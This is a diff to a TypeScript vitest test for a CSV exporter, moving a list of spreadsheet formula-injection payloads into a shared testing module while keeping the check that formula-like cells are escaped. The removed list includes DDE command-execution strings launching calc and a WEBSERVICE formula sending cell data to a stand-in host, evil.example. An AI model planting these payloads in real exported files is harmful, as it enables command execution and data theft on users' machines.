@@ -1,5 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { expect, test } from 'vitest';
+import { formulas } from '@/db/testing/payloads';
 import type { OpenAnnotation } from './collection';
 import { csvCell, csvHead, csvLine } from './csv';
 
@@ -21,33 +22,7 @@ const bench: OpenAnnotation = {
 
 const read = (lines: string) => parse(lines, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];
 
-/** S14 of the goals for reliability: what spreadsheets would run. */
-const payloads = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1;1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  ' =1+1',
-  '\u00A0=1+1',
-  '\u200B=1+1',
-  '\uFEFF=1+1',
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1;1)',
-  '=HYPERLINK("http://evil.example";"hier")',
-  "=cmd|' /C calc'!A0",
-  '=WEBSERVICE("http://evil.example/"&A1)',
-  '-2+3+cmd|" /C calc"!A0',
-  '﹦1+1',
-  '−1+1',
-  '|calc',
-];
-
-test.each(payloads)('a text that begins like a formula is a text: %j', (payload) => {
+test.each(formulas)('a text that begins like a formula is a text: %j', (payload) => {
   const [row] = read(csvHead() + csvLine({ ...bench, text: payload }, ''));
   expect(row?.text).toBe(`'${payload}`);
 });
